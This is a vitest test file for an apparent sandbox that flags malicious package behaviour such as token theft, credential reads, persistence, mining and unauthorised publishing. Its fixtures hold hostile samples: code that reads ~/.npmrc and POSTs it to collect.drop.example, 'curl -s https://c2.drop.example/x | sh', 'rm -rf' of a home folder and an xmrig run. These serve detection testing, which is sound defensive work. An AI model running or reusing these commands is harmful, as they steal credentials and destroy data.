import { describe, expect, it } from 'vitest'
import { weigh } from '../core/weigh.ts'
import type { Finding } from '../core/types.ts'
import { judge } from './judge.ts'
import { indicatorsOf } from './indicators.ts'
import { stagesOf } from './stages.ts'
import { recordOf, sampleAbout } from './testing.ts'
import type { Sample } from './testing.ts'

const found = (sample: Sample): Finding[] => judge(recordOf(sample), sampleAbout(sample)).flatMap((run) => (run.status === 'ok' ? run.findings : []))
const THEFT: Sample = {
  says: 'a token goes out', acts: [
    { kind: 'read', target: '/home/mkeller/.npmrc', by: 'setup.js:3' },
    { kind: 'request', target: 'https://collect.drop.example/n', method: 'POST', by: 'setup.js:9', honey: [{ token: 'npm-token', encodings: ['gzip', 'base64'], where: 'body' }] },
  ],
}

describe('judging a record', () => {
  it('makes malicious what is seen leaving, with the chain from the hook to the sink', () => {
    const runs = judge(recordOf(THEFT), sampleAbout(THEFT))
    expect(runs.every(({ status }) => status === 'ok')).toBe(true)
    expect(weigh('sha256:00', runs, [], 'test').level).toBe('malicious')
    const [theft] = found(THEFT).filter(({ detector }) => detector === 'did-send-secrets')
    expect(theft?.title).toBe('the postinstall script sent planted npm-token to collect.drop.example')
    expect(theft?.evidence.map(({ role, file, lines }) => `${role} ${file}:${lines[0]}`)).toEqual(['trigger package.json:5', 'source setup.js:3', 'sink setup.js:9'])
    expect(theft?.evidence.at(-1)?.excerpt).toBe('POST hxxps://collect[.]drop[.]example/n [planted npm-token, gzip in base64]')
  })

  it('shows what was hidden in an encoding, and where it lay', () => {
    const sample = Buffer.from('{"d":"' + Buffer.from('//registry.example/:_authToken=npm_planted').toString('base64') + '"}').toString()
    const [theft] = found({ says: 'encoded', acts: [{ kind: 'request', target: 'https://c.example/', method: 'POST', sample, honey: [{ token: 'npm-token', encodings: ['base64'], where: 'body' }] }] }).filter(({ detector }) => detector === 'did-send-secrets')
    expect(theft?.evidence.at(-1)).toMatchObject({ excerpt: '//registry.example/:_authToken=npm_planted', decodedFrom: { says: 'undone: base64' } })
  })

  it('takes what only a file by itself does, which nothing loads, for asked for; not on the word of a process of the package’s', () => {
    const driver = ['node', '/home/mkeller/x/scripts/load.cjs']
    const files = [...driver, '--child', '0', 'sample', 'files']
    const severity = (processes: Sample['processes'], began?: readonly string[]): string | undefined => found({ says: 'a port', phase: 'import', processes: processes ?? [], acts: [...(began ? [{ kind: 'exec' as const, target: '/usr/bin/node', argv: began, by: null }] : []), { kind: 'listen', target: '0.0.0.0:4444' }] }).find(({ detector }) => detector === 'did-listen')?.severity
    expect(severity([{ pid: 1, argv: driver }, { pid: 3, parent: 1, argv: [...driver, '--child', '0', 'sample', 'names'] }])).toBe('medium')
    expect(severity([{ pid: 1, argv: driver }, { pid: 3, parent: 1, argv: files }])).toBeUndefined()
    expect(severity([{ pid: 1, argv: driver }, { pid: 2, parent: 1, argv: [...driver, '--child', '0', 'sample', 'names'] }, { pid: 3, parent: 2, argv: files }])).toBe('medium')
    expect(severity([{ pid: 1, argv: driver }, { pid: 3, parent: 1, argv: files }], files)).toBeUndefined()
    expect(severity([{ pid: 1, argv: driver }, { pid: 3, parent: 1, argv: files }], [...driver, '--child', '0', 'sample', 'names'])).toBe('medium')
  })

  it('is silent about an ordinary installation', () => {
    expect(found({ says: 'npm at work', acts: [
      { kind: 'read', target: '/home/mkeller/.npmrc', pid: 1, by: null }, { kind: 'request', target: 'https://registry.example/left-pad', method: 'GET', pid: 1, by: null, honey: [{ token: 'npm-token', encodings: [], where: 'header' }] },
      { kind: 'write', target: '/home/mkeller/app/node_modules/left-pad/index.js', pid: 1, by: null }, { kind: 'write', target: '/home/mkeller/.npm/_cacache/tmp/x', pid: 1, by: null }, { kind: 'refused', target: 'io_uring_setup', pid: 1, by: null, done: false },
    ] })).toEqual([])
  })

  it('does not take a program for a tool because it is called like one', () => {
    const sample = (program: string): Sample => ({ says: 'git, or not', processes: [{ pid: 4, parent: 3, argv: ['git', 'status'], program }], acts: [{ kind: 'read', target: '/home/mkeller/.git-credentials', pid: 4, by: null }] })
    expect(found(sample('/usr/bin/git'))).toEqual([])
    expect(found(sample('/home/mkeller/app/node_modules/sample/git')).map(({ detector }) => detector)).toEqual(['did-read-credentials'])
  })

  it('says what was done in one pass only, graver where it is grave', () => {
    const only: Sample = { ...THEFT, passes: ['laptop', 'ci'], acts: THEFT.acts.map((act) => ({ ...act, pass: 'ci' as const })) }
    const [difference] = found(only).filter(({ detector }) => detector === 'did-act-only-sometimes')
    expect(difference).toMatchObject({ severity: 'high', behaviour: 'evasion', title: 'only in continuous integration: the postinstall script sent planted npm-token to collect.drop.example' })
    expect(found({ ...THEFT, passes: ['laptop', 'ci'] }).filter(({ detector }) => detector === 'did-act-only-sometimes')).toEqual([])
    // In CI there is nothing of a person's to take.
    const lured: Sample = { says: 'a thief', passes: ['laptop', 'ci'], acts: [{ kind: 'read', target: '/home/mkeller/.aws/credentials', pass: 'laptop' }, { kind: 'request', target: 'https://c2.drop.example/x', method: 'POST' }] }
    expect(found(lured).map(({ detector }) => detector)).toEqual(['did-read-credentials', 'did-speak-to-strangers'])
  })

  it('takes a second name for a file for reading it', () => {
    const linked = (other: string): Sample => ({ says: 'a link', acts: [{ kind: 'link', target: '/home/mkeller/app/node_modules/sample/a', other }] })
    expect(found(linked('/home/mkeller/.ssh/id_rsa')).map(({ detector }) => detector)).toEqual(['did-read-credentials'])
    expect(found(linked('../b/cli.js'))).toEqual([])
  })

  it('takes reading the settings of a registry for a client’s, which says next to nothing, only where no stranger is spoken to and nothing else is read', () => {
    const read = { kind: 'read', target: '/home/mkeller/.npmrc' } as const
    const asked = { kind: 'request', target: 'https://registry.example/left-pad', method: 'GET', honey: [{ token: 'npm-token', encodings: [], where: 'authorization' }] } as const
    const severity = (acts: Sample['acts'], phase: Sample['phase'] = 'import'): string | undefined => found({ says: 'settings', phase, acts }).find(({ detector }) => detector === 'did-read-credentials')?.severity
    expect(severity([read, asked])).toBe('low')
    expect(severity([read])).toBe('low')
    expect(severity([{ ...read, target: '/home/mkeller/.netrc' }])).toBe('medium')
    expect(severity([read, { ...read, target: '/home/mkeller/.aws/credentials' }, asked])).toBe('medium')
    expect(severity([read, asked], 'install')).toBe('medium')
    expect(severity([read, asked, { kind: 'request', target: 'https://c2.drop.example/x', method: 'POST' }])).toBe('high')
  })

  it('takes a question in GraphQL for no publication, unlike a mutation and what nobody has seen', () => {
    const post = (sample?: string): Sample => ({ says: 'posts', phase: 'execute', acts: [{ kind: 'request', target: 'https://api.github.com/graphql', method: 'POST', bytes: sample?.length ?? 40, ...(sample === undefined ? {} : { sample }) }] })
    const publishes = (sample?: string): boolean => found(post(sample)).some(({ detector }) => detector === 'did-publish')
    expect(publishes('{"query":"{ viewer { login } }"}')).toBe(false)
    expect(publishes('{"query":"mutation { createRepository(input: {}) { clientMutationId } }"}')).toBe(true)
    expect(publishes('{"query":"\\u006dutation { createRepository(input: {}) { clientMutationId } }"}')).toBe(true)
    expect(publishes('\u001f\u008b\u0008packed')).toBe(true)
    expect(publishes()).toBe(true)
  })

  it('takes pushing and publishing for what a function was called for, unless it goes to an address of its own or to all that its user may publish', () => {
    const severity = (line: string, phase: 'import' | 'execute' = 'execute'): string | undefined => found({ says: 'pushes', phase, acts: [{ kind: 'exec', target: '/usr/bin/git', argv: line.split(' ') }] }).find(({ detector }) => detector === 'did-publish')?.severity
    expect(severity('git push --tags')).toBe('low')
    expect(severity('git push --tags', 'import')).toBe('critical')
    expect(severity('git push https://x@code.drop.example/r HEAD')).toBe('medium')
    expect(severity('git push git@code.drop.example:r HEAD')).toBe('medium')
    expect(severity('git push https://www.shop.example/products?page=1')).toBe('low')
    expect(severity('git -c remote.origin.url=/x push origin')).toBe('medium')
    expect(severity('npm publish')).toBe('low')
    const uploads = (...names: string[]): string | undefined => found({ says: 'a worm', phase: 'execute', acts: names.map((name) => ({ kind: 'request', target: `https://registry.example/${name}`, method: name.startsWith('-/') ? 'GET' : 'PUT' })) }).find(({ detector }) => detector === 'did-publish')?.severity
    expect(uploads('one')).toBe('low')
    expect(uploads('one', 'two')).toBe('high')
    expect(uploads('-/v1/search?text=maintainer:ada', 'one')).toBe('high')
  })

  it('takes what is called with made-up arguments for what it is for, and all of it together for one remark', () => {
    const remarks: Sample['acts'] = [
      { kind: 'exec', target: '/usr/bin/git', argv: ['git', 'push'] }, { kind: 'exec', target: '/usr/bin/git', argv: ['git', 'config', '--global', 'user.name', 'x'] },
      { kind: 'exec', target: '/usr/bin/npm', argv: ['npm', 'install', 'left-pad'] }, { kind: 'read', target: '/home/mkeller/.netrc' }, { kind: 'request', target: 'https://api.drop.example/mkeller', method: 'GET' },
      { kind: 'delete', target: '/home/mkeller/projects/shop/dist/a.js' }, { kind: 'delete', target: '/home/mkeller/projects/shop/dist/b.js' }, { kind: 'exec', target: '/bin/sh', argv: ['sh', '-c', 'id'] },
    ]
    const weighed = (phase: 'import' | 'execute', more: Sample['acts'] = []): { level: string; score: number; grave: string[] } => {
      const sample: Sample = { says: 'called', phase, acts: [...remarks, ...more], disk: ['a', 'b'].map((name) => ({ what: 'deleted' as const, path: `/home/mkeller/projects/shop/dist/${name}.js` })) }
      const { level, score, findings } = weigh('sha256:00', judge(recordOf(sample), sampleAbout(sample)), [], '')
      return { level, score, grave: findings.filter(({ severity }) => severity !== 'low').map(({ detector }) => detector) }
    }
    expect(weighed('execute')).toMatchObject({ level: 'clean', grave: [] })
    expect(weighed('execute').score).toBeLessThanOrEqual(7)
    expect(weighed('import').level).toBe('malicious')
    // What no argument explains is as grave as it was.
    const alarms = (detector: string, act: Sample['acts'][number]): void => expect(weighed('execute', [act])).toMatchObject({ level: expect.stringMatching('suspicious|malicious') as string, grave: [detector] })
    alarms('did-persist', { kind: 'write', target: '/home/mkeller/.bashrc' })
    alarms('did-send-secrets', { kind: 'request', target: 'https://c2.drop.example/x', method: 'POST', honey: [{ token: 'aws-key', encodings: [], where: 'body' }] })
    alarms('did-destroy', { kind: 'exec', target: '/bin/rm', argv: ['rm', '-rf', '/home/mkeller'] })
    alarms('did-mine', { kind: 'exec', target: '/tmp/xmrig', argv: ['/tmp/xmrig', '-o', 'pool'] })
  })

  it('takes the connection under a request to the project’s own part of a shared host for that request, and for nothing else', () => {
    const legs: Sample['acts'] = [{ kind: 'request', target: 'https://raw.githubusercontent.com/sample/sample/v1/tool', method: 'GET' }, { kind: 'resolve', target: 'raw.githubusercontent.com' }, { kind: 'connect', target: '[fd00::1]:443', name: 'raw.githubusercontent.com' }]
    const strange = (...more: Sample['acts']): boolean => found({ says: 'asks', acts: [...legs, ...more] }).some(({ detector }) => detector === 'did-speak-to-strangers')
    expect(strange()).toBe(false)
    expect(strange({ kind: 'connect', target: '198.18.0.5:443', name: 'raw.githubusercontent.com' })).toBe(false)
    expect(strange(...Array.from({ length: 3 }, () => legs[2] as Sample['acts'][number]))).toBe(true)
    expect(strange({ kind: 'send', target: '198.18.0.5:443', name: 'raw.githubusercontent.com', bytes: 9 })).toBe(true)
    expect(strange({ kind: 'request', target: 'https://raw.githubusercontent.com/drop/x/v1/tool', method: 'GET' })).toBe(true)
    expect(strange({ kind: 'connect', target: '198.18.0.6:443', name: 'c2.drop.example' })).toBe(true)
  })

  it('counts a folder that is listed as the place of what is read in it, and settings that a library looks up for little', () => {
    const severity = (phase: 'install' | 'execute', ...acts: Sample['acts']): string | undefined => found({ says: 'reads', phase, acts }).find(({ detector }) => detector === 'did-read-credentials')?.severity
    const at = (path: string, by?: string): Sample['acts'][number] => ({ kind: 'read', target: `/home/mkeller/${path}`, ...(by === undefined ? {} : { by }) })
    expect(severity('execute', at('.config/gcloud'), at('.config/gcloud/credentials.db'), at('.netrc'))).toBe('low')
    expect(severity('execute', at('.config/gcloud/credentials.db'), at('.aws/credentials'), at('.netrc'))).toBe('medium')
    expect(severity('install', at('.npmrc', 'npm-conf/lib/conf.js:38'))).toBe('low')
    expect(severity('install', at('.npmrc', 'other/lib/conf.js:38'))).toBe('medium')
    expect(severity('install', at('.npmrc', 'npm-conf/lib/conf.js:38'), { kind: 'request', target: 'https://c2.drop.example/x', method: 'POST' })).toBe('high')
  })

  it('takes the path that a function was called with for the caller’s word, and for nothing else', () => {
    const tells = (target: string, phase: 'import' | 'execute' = 'execute'): boolean => found({ says: 'asks', phase, acts: [{ kind: 'request', target, method: 'GET' }] }).some(({ detector, title }) => detector === 'did-profile-host' && title.includes('name of its user'))
    expect(tells('https://graph.drop.example/home/mkeller/projects/shop/data/products.json')).toBe(false)
    expect(tells('https://graph.drop.example/home/mkeller/projects/shop/data/products.json', 'import')).toBe(true)
    expect(tells('https://graph.drop.example/home/mkeller/projects/shop/data/products.json?by=mkeller')).toBe(true)
    expect(tells('https://graph.drop.example/home/mkeller/.ssh')).toBe(true)
  })

  it('takes a socket with a path for no stranger, wherever the path begins', () => {
    const spoken = (target: string): string[] => found({ says: 'connects', phase: 'import', acts: [{ kind: 'connect', target, done: false }] }).map(({ detector }) => detector)
    expect(spoken('hello world')).toEqual([])
    expect(spoken('c2.drop.example:443')).toEqual(['did-speak-to-strangers'])
    expect(spoken('c2.drop.example')).toEqual(['did-speak-to-strangers'])
    expect(spoken('[2001:db8::7]:443')).toEqual(['did-speak-to-strangers'])
  })

  it('takes changing the own settings when it is used for less than changing another’s', () => {
    const severity = (target: string, phase: 'install' | 'execute'): string | undefined => found({ says: 'settings', phase, acts: [{ kind: 'write', target }] }).find(({ detector }) => detector === 'did-change-settings')?.severity
    expect(severity('/home/mkeller/.npmrc', 'execute')).toBe('medium')
    expect(severity('/home/mkeller/.docker/config.json', 'execute')).toBe('low')
    expect(severity('/home/mkeller/.docker/config.json', 'install')).toBe('high')
    const told = (line: string): string | undefined => found({ says: 'settings', phase: 'execute', acts: [{ kind: 'exec', target: '/usr/bin/npm', argv: line.split(' ') }] }).find(({ detector }) => detector === 'did-change-settings')?.severity
    expect(told('git config --global credential.helper store')).toBe('low')
    expect(told('npm config set registry https://x.drop.example')).toBe('medium')
    const docker = { says: 'its own', phase: 'execute', acts: [{ kind: 'write', target: '/home/mkeller/.docker/config.json' }] } as const
    const own = judge(recordOf(docker), { ...sampleAbout(docker), ref: { ecosystem: 'pypi', name: 'docker', version: '1' } })
    expect(own.flatMap((run) => (run.status === 'ok' ? run.findings : [])).map(({ severity: grave }) => grave)).toEqual(['low'])
  })

  it('takes fetching from the domain that bears the project’s name for asking its maker, and nothing else that goes there', () => {
    const strange = (target: string, more: Partial<Sample['acts'][number]> = {}): boolean => found({ says: 'asks', acts: [{ kind: 'request', target, method: 'GET', ...more }] }).some(({ detector }) => detector === 'did-speak-to-strangers')
    expect(strange('https://dl.sample.example/linux-x64.tgz')).toBe(false)
    expect(strange('https://dl.sample.co.uk/linux-x64.tgz')).toBe(false)
    expect(strange('https://sample.vercel.app/linux-x64.tgz')).toBe(true)
    expect(strange('https://sample.s3.amazonaws.com/linux-x64.tgz')).toBe(true)
    expect(strange('https://dl.sample.example/t', { method: 'POST', bytes: 20 })).toBe(true)
    expect(strange('https://dl.sample.example/?machine=thinkpad-mk')).toBe(true)
    expect(strange('http://dl.sample.example/linux-x64.tgz')).toBe(true)
    expect(strange('https://sample.drop.example/linux-x64.tgz')).toBe(true)
    expect(strange('https://samples.example/linux-x64.tgz')).toBe(true)
    const told = { says: 'a secret', acts: [{ kind: 'request', target: 'https://dl.sample.example/', method: 'GET', honey: [{ token: 'npm-token', encodings: [], where: 'header' }] }] } as const satisfies Sample
    expect(found(told).map(({ detector, severity }) => `${severity} ${detector}`)).toContain('critical did-send-secrets')
    const github: Sample = { says: 'a place of anybody’s', acts: [{ kind: 'request', target: 'https://x.s3.amazonaws.com/a', method: 'GET' }] }
    const runs = judge(recordOf(github), { ...sampleAbout(github), ref: { ecosystem: 'npm', name: 'amazonaws', version: '1' } })
    expect(runs.flatMap((run) => (run.status === 'ok' ? run.findings : [])).map(({ detector }) => detector)).toEqual(['did-speak-to-strangers'])
  })

  it('takes settings of a registry that are looked for while something is loaded for little, and other secrets for more', () => {
    const severity = (by: string, target: string): string | undefined => found({ says: 'settings', phase: 'import', acts: [{ kind: 'read', target, by }] }).find(({ detector }) => detector === 'did-read-credentials')?.severity
    expect(severity('global-prefix/index.js:9', '/home/mkeller/.npmrc')).toBe('low')
    expect(severity('index.js:9', '/home/mkeller/.npmrc')).toBe('low')
    expect(severity('global-prefix/index.js:9', '/home/mkeller/.aws/credentials')).toBe('medium')
  })

  it('takes a password that an HTTP library looks for with each request for no theft, unless the package has it look', () => {
    const line = (by: string): { package: string; file: string; line: number; column: null } => ({ package: by, file: 'x.py', line: 1, column: null })
    const severity = (stack: readonly string[], program = '/usr/bin/python3'): string | undefined => {
      const sample: Sample = { says: 'asks', ecosystem: 'pypi', phase: 'import', processes: [{ pid: 3, argv: ['x'], program }], acts: [{ kind: 'read', target: '/home/mkeller/.netrc' }, { kind: 'request', target: 'https://telemetry.example/', method: 'GET' }] }
      const record = recordOf(sample)
      const phases = record.phases.map((phase) => ({ ...phase, acts: phase.acts.map((act) => (act.kind === 'read' ? { ...act, by: stack[0] === undefined ? null : line(stack[0]), stack: stack.map(line) } : act)) }))
      return judge({ ...record, phases }, sampleAbout(sample)).flatMap((run) => (run.status === 'ok' ? run.findings : [])).find(({ detector }) => detector === 'did-read-credentials')?.severity
    }
    expect(severity(['requests', 'requests', 'sample'])).toBeUndefined()
    expect(severity(['requests', 'sample'])).toBe('high')
    expect(severity(['sample', 'requests', 'requests'])).toBe('high')
    expect(severity([], '/usr/bin/wget')).toBeUndefined()
    expect(severity([], '/home/mkeller/app/node_modules/sample/wget')).toBe('high')
  })

  it('names the package of a dependency that did it', () => {
    const [read] = found({ says: 'a dependency', acts: [{ kind: 'read', target: '/home/mkeller/.ssh/id_rsa', by: 'left-pad/index.js:7' }] })
    expect(read?.evidence.at(-1)).toMatchObject({ file: 'left-pad/index.js', lines: [7, 7], says: 'read credentials of the user (code of left-pad)' })
  })
})

describe('code that comes to light', () => {
  const code = 'const fs = require("fs"), os = require("os")\nconst text = fs.readFileSync(os.homedir() + "/.npmrc", "utf8")\nfetch("https://collect.drop.example/n", { method: "POST", body: text })\n'
  const sample: Sample = { says: 'written and run', acts: [{ kind: 'write', target: '/tmp/stage.js', by: 'setup.js:4' }, { kind: 'exec', target: '/usr/bin/node', argv: ['node', '/tmp/stage.js'], by: 'setup.js:5' }], disk: [{ path: '/tmp/stage.js', content: new TextEncoder().encode(code) }] }

  it('is read by the static engine, and says where it came from', () => {
    expect(stagesOf(recordOf(sample), sampleAbout(sample)).map(({ path, ran }) => ({ path, ran }))).toEqual([{ path: 'stage-1/tmp/stage.js', ran: true }])
    const [theft] = found(sample).filter(({ detector }) => detector === 'steals-credentials')
    expect(theft).toMatchObject({ severity: 'critical', title: expect.stringContaining('code that came to light') })
    expect(theft?.evidence[0]).toMatchObject({ file: 'stage-1/tmp/stage.js', decodedFrom: { file: 'setup.js', lines: [4, 4], says: 'wrote /tmp/stage.js' } })
  })

  it('is looked for in command lines as well, once', () => {
    const inline = { kind: 'exec', target: '/usr/bin/node', argv: ['node', '-e', code], by: 'setup.js:5' } as const
    expect(stagesOf(recordOf({ says: 'inline', acts: [inline, inline] }), sampleAbout(sample))).toHaveLength(1)
  })

  it('is no text for people, and no log, unless it is run', () => {
    const written = (path: string, ...more: Sample['acts']): Sample => ({ says: 'a text', acts: [{ kind: 'write', target: path }, ...more], disk: [{ path, content: new TextEncoder().encode('at 10:00\ncurl -s https://c2.drop.example/x | sh\n') }] })
    const stages = (one: Sample): number => stagesOf(recordOf(one), sampleAbout(one)).length
    expect(stages(written('/tmp/x/README.txt'))).toBe(0)
    expect(stages(written('/tmp/x/run.sh'))).toBe(1)
    expect(stages(written('/tmp/x/README.txt', { kind: 'exec', target: '/bin/sh', argv: ['sh', '/tmp/x/README.txt'] }))).toBe(1)
  })

  it('is bounded', () => {
    const many = Array.from({ length: 500 }, (_none, index) => ({ kind: 'exec', target: '/usr/bin/node', argv: ['node', '-e', `console.log(${index}, "${'x'.repeat(1000)}")`] }) as const)
    expect(stagesOf(recordOf({ says: 'many', acts: many }), sampleAbout(sample))).toHaveLength(40)
  })
})

describe('indicators', () => {
  it('are what the package named, never what the box answered or tools ask', () => {
    const sample: Sample = {
      says: 'hosts', acts: [
        { kind: 'resolve', target: 'c2.example' }, { kind: 'connect', target: '198.18.3.4:443', name: 'c2.example' }, { kind: 'connect', target: '198.18.3.9:443' }, { kind: 'request', target: 'https://c2.example/gate.php', method: 'POST', by: 'setup.js:9' },
        { kind: 'connect', target: '203.0.113.9:4444' }, { kind: 'connect', target: '192.168.1.4:22' }, { kind: 'request', target: 'https://registry.example/x' }, { kind: 'request', target: 'https://nodejs.org/dist/v24.0.0/node.tar.gz', method: 'GET' },
        { kind: 'write', target: '/home/mkeller/.x/run' },
      ], disk: [{ path: '/home/mkeller/.x/run', sha256: 'ab'.repeat(32), mode: 0o755 }],
    }
    expect(indicatorsOf(recordOf(sample), sampleAbout(sample)).map(({ type, value }) => `${type} ${value}`).sort()).toEqual([
      'domain c2.example', `hash ${'ab'.repeat(32)}`, 'ipv4 203.0.113.9', 'url https://c2.example/gate.php'])
  })
})
